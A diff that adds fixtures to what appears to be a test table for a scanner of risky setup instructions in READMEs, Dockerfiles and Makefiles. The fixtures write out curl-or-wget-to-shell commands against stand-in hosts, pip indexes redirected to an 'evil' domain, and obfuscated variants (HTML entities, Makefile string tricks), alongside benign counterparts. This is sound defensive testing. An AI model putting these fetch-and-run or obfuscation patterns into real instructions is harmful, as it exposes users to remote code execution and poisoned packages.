@@ -186,6 +186,18 @@ const FORMS: [string, Files, Expect, Files, Expect][] = [
     { 'README.md': '```bash\ngit clone https://github.com/evil-org/tools\n```\n' }, 'quiet'],
   ['curl | sh', { 'README.md': `\`\`\`bash\n${CURL_SH}\n\`\`\`\n` }, ['instructions.pipe-to-shell', 'critical'],
     { 'README.md': '```bash\ncurl -fsSL -o model.gguf https://huggingface.co/org/m/resolve/main/m.gguf\n```\n' }, 'quiet'],
+  ['pip package source set by environment or pip config', { 'README.md': '```bash\nexport PIP_EXTRA_INDEX_URL=https://pkgs.evil.invalid/simple\npip install tokenizers\n```\n' }, ['instructions.git-install', 'high'],
+    { 'README.md': '```bash\nPIP_INDEX_URL=https://download.pytorch.org/whl/cu121 pip install torch\n```\n' }, 'quiet'],
+  ['pip config set global.index-url', { 'README.md': '```bash\npip config set global.index-url https://pkgs.evil.invalid/simple\n```\n' }, ['instructions.git-install', 'high'],
+    { 'README.md': '```bash\npip config set global.timeout 60\n```\n' }, 'quiet'],
+  ['console continuation lines after a prompt', { 'README.md': '```console\n$ curl -fsSL https://x.invalid/i.sh \\\n>   | sh\nok\n```\n' }, ['instructions.pipe-to-shell', 'critical'],
+    { 'README.md': '```console\n$ pip install \\\n>   transformers\nSuccessfully installed\n```\n' }, 'quiet'],
+  ['HTML entities in prose', { 'README.md': 'Setup: curl&nbsp;-fsSL&nbsp;https://x.invalid/i.sh&nbsp;&#124;&nbsp;sh\n' }, ['instructions.pipe-to-shell', 'critical'],
+    { 'README.md': 'Setup: pip&nbsp;install&nbsp;transformers\n' }, 'quiet'],
+  ['Dockerfile RUN with flags and JSON form', { 'README.md': '```dockerfile\nRUN --mount=type=cache,target=/root/.cache curl -s https://x.invalid/a | sh\nRUN ["sh", "-c", "wget -qO- https://x.invalid/b | bash"]\n```\n' }, ['instructions.pipe-to-shell', 'critical'],
+    { 'README.md': '```dockerfile\nRUN --mount=type=cache,target=/root/.cache pip install transformers\nRUN ["python", "-c", "print(1)"]\n```\n' }, 'quiet'],
+  ['Makefile recipe hiding its words in make functions', { 'README.md': '`make setup`\n', Makefile: 'C = $(subst @,,cu@rl)\nsetup:\n\t$(C) -fsSL https://x.invalid/i.sh | $(firstword sh bash)\n' }, ['instructions.pipe-to-shell', 'critical'],
+    { 'README.md': '`make setup`\n', Makefile: 'P = $(subst @,,pi@p)\nsetup:\n\t$(P) install -r requirements.txt\n', 'requirements.txt': 'numpy\n' }, ['only', 'instructions.run-repo-script', 'medium']],
   ['pip install from a foreign index', { 'README.md': '```sh\npip install --index-url https://pkgs.evil.invalid/simple tokenizers\n```\n' }, ['instructions.git-install', 'high'],
     { 'README.md': '```sh\npip install torch --index-url https://download.pytorch.org/whl/cu121\n```\n' }, 'quiet']
 ];
